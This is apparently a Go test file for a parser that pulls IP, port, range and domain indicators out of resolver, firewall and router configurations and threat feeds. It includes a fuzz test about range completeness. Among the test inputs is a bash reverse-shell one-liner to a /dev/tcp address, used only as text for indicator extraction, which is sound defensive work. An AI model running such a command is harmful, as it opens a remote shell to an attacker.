package indicator

import (
	"fmt"
	"net/netip"
	"slices"
	"strings"
	"testing"
)

// Configurations of resolvers, firewalls and routers that people hand on as lists. A port never gets lost, a range has all its
// addresses and no more, and each line that is not read is told.
func TestReadConfigurations(t *testing.T) {
	const tenToTwenty = "192.0.2.10/31 192.0.2.12/30 192.0.2.16/30 192.0.2.20"
	readsAs(t, map[string]expectation{
		// An address and its port, with something else than a colon between them.
		"198.51.100.66#853\n203.0.113.9#53":                        {indicators: "198.51.100.66:853 203.0.113.9:53"},
		"2001:db8::1#853":                                          {indicators: "[2001:db8::1]:853"},
		"[2001:db8::1]#853":                                        {indicators: "[2001:db8::1]:853"},
		"198.51.100.66@853#dns.example":                            {indicators: "198.51.100.66:853"},
		"198.51.100.66:853#dns.example":                            {indicators: "198.51.100.66:853"},
		"server=198.51.100.66#5353":                                {indicators: "198.51.100.66:5353"},
		"198.51.100.66#99999":                                      {problems: 1},
		"198.51.100.66#0":                                          {problems: 1},
		"198.51.100.66#4#2#Malicious Host#CN#Beijing#39.9,116.3#3": {indicators: "198.51.100.66"}, // reputation, by AlienVault
		"198.51.100.66#dns.example":                                {indicators: "198.51.100.66"},
		"server=/corp.example/198.51.100.66#5353\nforward-addr: 192.0.2.1@53": {leftOut: 2},
		"forwarders { 198.51.100.66 port 5353; 198.51.100.7; };":              {leftOut: 1},
		"/dev/tcp/198.51.100.66/4444\nexec 3<>/dev/udp/198.51.100.7/53":       {indicators: "198.51.100.66:4444", problems: 1},
		"bash -i >& /dev/tcp/198.51.100.66/4444 0>&1":                         {indicators: "198.51.100.66:4444"},
		"/ip4/198.51.100.66/tcp/4001\n/dns4/evil.example/tcp/443/wss":         {indicators: "198.51.100.66:4001 evil.example:443"},
		// Ranges by their ends.
		"set start-ip 192.0.2.10\nset end-ip 192.0.2.20":                                        {indicators: tenToTwenty},
		"start-ip: 192.0.2.10\nend-ip: 192.0.2.20":                                              {indicators: tenToTwenty},
		"set start-ip 192.0.2.10\nset end-ip 192.0.2.9":                                         {problems: 2},
		"set start-ip 192.0.2.10\nnext":                                                         {leftOut: 1, problems: 1},
		"set end-ip 192.0.2.10":                                                                 {problems: 1},
		"set start-ip 192.0.2.30\nset start-ip 192.0.2.10\nset end-ip 192.0.2.20":               {indicators: tenToTwenty, problems: 1},
		"range 192.0.2.10 192.0.2.20":                                                           {indicators: tenToTwenty},
		"set security address-book global address b range-address 192.0.2.10 to 192.0.2.20":     {indicators: tenToTwenty},
		"192.0.2.10 to 192.0.2.20":                                                              {indicators: tenToTwenty},
		"192.0.2.10 to 198.51.100.66":                                                           {indicators: "192.0.2.10 198.51.100.66"}, // from one to another
		"add address-range name r ip-address-first 192.0.2.10 ip-address-last 192.0.2.20":       {indicators: tenToTwenty},
		"add network name n subnet 203.0.113.0 mask-length 24":                                  {indicators: "203.0.113.0/24"},
		"add network name n subnet 203.0.113.0 subnet-mask 255.255.255.0":                       {indicators: "203.0.113.0/24"},
		"set wildcard 10.0.0.0 255.0.255.0":                                                     {problems: 1},
		"203.0.113.0/24,2,30":                                                                   {problems: 1},
		"198.51.100.66,1,127\n203.0.113.0/24,2,30\n198.51.100.7,3,30":                           {indicators: "198.51.100.66 198.51.100.7 203.0.113.0/24", notes: 3}, // Suricata's iprep
		"config firewall address\nedit \"b\"\nset type fqdn\nset fqdn \"e.example\"\nnext\nend": {indicators: "e.example", leftOut: 5},
		"set wildcard-fqdn \"*.evil.example\"":                                                  {indicators: "evil.example"},
		"192.0.2.10..192.0.2.20":                                                                {indicators: tenToTwenty},
		"192.0.2.10 .. 192.0.2.20":                                                              {indicators: tenToTwenty},
		"192.0.2.10..20":                                                                        {indicators: tenToTwenty},
		"192.0.2.20..192.0.2.10":                                                                {problems: 1},
		// Ranges and lists in octets.
		"192.0.2.[10-20]":           {indicators: tenToTwenty},
		"192[.]0[.]2[.][10-20]":     {indicators: tenToTwenty},
		"192.0.2.{10..20}":          {indicators: tenToTwenty},
		"192.0.2.{10-14,15,16-20}":  {indicators: tenToTwenty},
		"scan of 192.0.2.[10-20] x": {indicators: tenToTwenty},
		"198.51.100-101.*":          {indicators: "198.51.100.0/23"},
		"198.51.100-101.0-255":      {indicators: "198.51.100.0/23"},
		"198.51.{8,12}.1-2":         {indicators: "198.51.12.1 198.51.12.2 198.51.8.1 198.51.8.2"},
		"198.51.*.7-7":              {problems: 0, indicators: inEach(7)},
		"198.51.100.[1-9":           {problems: 1},
		"198.51.100.[9-1]":          {problems: 1},
		"198.51.100.[1-256]":        {problems: 1},
		"198.51.100.[]":             {problems: 1},
		"198.51.100.[01-9]":         {problems: 1},
		"198.*.*.[1-9]":             {problems: 1}, // 65,536 ranges
		"*.*.*.[1-9]":               {problems: 1},
		"openssl 10.1.2-3.4":        {problems: 1},
		// firewalld.
		"<?xml version=\"1.0\"?>\n<ipset type=\"hash:net\">\n<short>bad</short>\n<entry>198.51.100.66</entry>\n<entry> 203.0.113.0/24 </entry>\n<entry>192.0.2.10-192.0.2.20</entry>\n</ipset>": {indicators: tenToTwenty + " 198.51.100.66 203.0.113.0/24"},
		"<ipset type=\"hash:ip,port\"><entry>198.51.100.66,tcp:443</entry><entry>198.51.100.7,udp:53</entry></ipset>":                                                                           {indicators: "198.51.100.66:443 198.51.100.7:53", notes: 2},
		"<ipset type=\"hash:net,iface\"><entry>203.0.113.0/24,eth0</entry><entry>x</entry></ipset>":                                                                                             {problems: 2},
		"<ipset type=\"hash:mac\"><entry>00:11:22:33:44:55</entry></ipset>":                                                                                                                     {problems: 1},
		"<ipset type=\"hash:ip\"><short>none</short></ipset>":                                                                                                                                   {problems: 1},
		"<ipset type=\"hash:ip\"><entry>198.51.100.66</entry><entry>198.51":                                                                                                                     {indicators: "198.51.100.66", problems: 1},
		"<zone><source address=\"198.51.100.66\"/></zone>":                                                                                                                                      {problems: 1},
		// MikroTik.
		"/ip firewall address-list\nadd address=evil.example.com list=bad\nadd list=bad address=www.example.net": {indicators: "evil.example.com www.example.net", leftOut: 1},
		"/ip firewall address-list\nadd address=198.51.100.66 list=bad":                                          {indicators: "198.51.100.66", leftOut: 1},
		"/ip firewall address-list add address=192.0.2.10-192.0.2.20 list=bad":                                   {indicators: tenToTwenty},
		"/ipv6 firewall address-list add list=bad address=2001:db8::/32":                                         {indicators: "2001:db8::/32"},
		"/ip firewall filter add chain=forward dst-address=203.0.113.9 dst-port=443 protocol=tcp action=drop":    {indicators: "203.0.113.9:443"},
		"/ip firewall filter add chain=forward dst-address=203.0.113.9 dst-port=443 protocol=tcp action=accept":  {leftOut: 1},
		"/ip firewall filter add chain=forward dst-address=!203.0.113.9 dst-port=443 protocol=tcp action=drop":   {problems: 1},
		// Others.
		"New-NetFirewallRule -RemoteAddress 198.51.100.7 -RemotePort 8443 -Action Block":                                        {indicators: "198.51.100.7:8443"},
		"New-NetFirewallRule -RemoteAddress 198.51.100.7 -Action Allow":                                                         {leftOut: 1},
		"netsh advfirewall firewall add rule name=\"x\" dir=out action=block remoteip=198.51.100.66 remoteport=443":             {indicators: "198.51.100.66:443"},
		"netsh advfirewall firewall add rule name=\"x\" dir=out action=allow remoteip=198.51.100.66":                            {leftOut: 1},
		"NOTICE [sshd] Unban 198.51.100.69":                                                                                     {leftOut: 1},
		"tcp 6 9 ESTABLISHED src=10.0.0.5 dst=198.51.100.66 sport=5 dport=443 src=198.51.100.66 dst=10.0.0.5 sport=443 dport=5": {indicators: "198.51.100.66:443", leftOut: 2},
		"id,source,ip,reason\n1,crowdsec,Ip:198.51.100.66,ssh-bf\n2,crowdsec,Range:203.0.113.0/24,ssh-bf":                       {indicators: "198.51.100.66 203.0.113.0/24"},
		"acl bad dstdomain .evil.example bad.example":                                                                           {indicators: "bad.example evil.example"},
		"acl bad dstdomain \"/etc/squid/bad\"":                                                                                  {problems: 1},
		"AllowedIPs = 0.0.0.0/0":                                                                                                {leftOut: 1},
		"add bad 203.0.113.0/24,eth0":                                                                                           {problems: 1},
		"table inet f {\nset b {\ntype ipv4_addr\nflags interval\nelements = { 198.51.100.66,\n192.0.2.10-192.0.2.20 }\n}\n}":   {indicators: tenToTwenty + " 198.51.100.66", leftOut: 6},
	})
}

// inEach lists an address of each network of 198.51.0.0/16.
func inEach(last int) string {
	var list []string
	for n := range 256 {
		list = append(list, fmt.Sprintf("198.51.%d.%d", n, last))
	}
	slices.Sort(list)
	return strings.Join(list, " ")
}

// rangeForms are notations of a range by its first and last address.
var rangeForms = []string{
	"$A-$B", "$A - $B", "$A to $B", "range $A $B", "range-address $A to $B", "set start-ip $A\nset end-ip $B", "set end-ip $B\nset start-ip $A", "start-ip: $A\n$L\nend-ip: $B", "start_ip,end_ip\n$A,$B",
	"ip-address-first $A ip-address-last $B", "add address=$A-$B list=x", "/ip firewall address-list add address=$A-$B list=x", `{"start_ip": "$A", "end_ip": "$B"}`, "$L:$A-$B", "$A,$B", "$A $B", "-m iprange --dst-range $A-$B -j DROP",
	"elements = { $A-$B, 192.0.2.1 }", "start-ip=$A\nstart-ip=$A\nend-ip=$B", "$A..$B",
}

// A range has none of the addresses before and after it; and all in it, or somebody is told.
func FuzzRangeIsWhole(f *testing.F) {
	for form := range rangeForms {
		f.Add(uint8(form), uint32(0xc6336442), uint16(9), "label")
		f.Add(uint8(form), uint32(0x0a0000ff), uint16(0), "to")
		f.Add(uint8(form), uint32(0xc6336400), uint16(255), "")
	}
	f.Fuzz(func(t *testing.T, form uint8, number uint32, length uint16, label string) {
		at := func(n uint32) netip.Addr {
			return netip.AddrFrom4([4]byte{byte(n >> 24), byte(n >> 16), byte(n >> 8), byte(n)})
		}
		number &= 0x7fffffff
		number |= 1 << 24
		first, last := at(number), at(number+uint32(length))
		label = strings.Map(func(r rune) rune {
			if r >= 'a' && r <= 'z' {
				return r
			}
			return -1
		}, label)
		text := strings.NewReplacer("$A", first.String(), "$B", last.String(), "$L", label+"x").Replace(rangeForms[int(form)%len(rangeForms)])
		r, err := Read(strings.NewReader(text))
		if err != nil {
			t.Fatal(err)
		}
		for _, outside := range []netip.Addr{first.Prev(), last.Next()} {
			if found := r.Set.ByAddress(outside, 443); len(found) > 0 && outside != at(0xc0000201) {
				t.Errorf("%q is read as %v, which has %s", text, found, outside)
			}
		}
		ends := len(r.Set.ByAddress(first, 443)) > 0 && len(r.Set.ByAddress(last, 443)) > 0
		if !ends && len(r.Problems) == 0 && r.leftOut == 0 {
			t.Errorf("%q: neither read nor told\n%s", text, told(r))
		}
		two := strings.HasSuffix(text, first.String()+","+last.String()) && form%uint8(len(rangeForms)) == 14 || form%uint8(len(rangeForms)) == 15
		if inside := at(number + uint32(length)/2); !two && ends && len(r.Set.ByAddress(inside, 443)) == 0 && first.As4()[0] == last.As4()[0] {
			t.Errorf("%q is read without %s", text, inside)
		}
	})
}
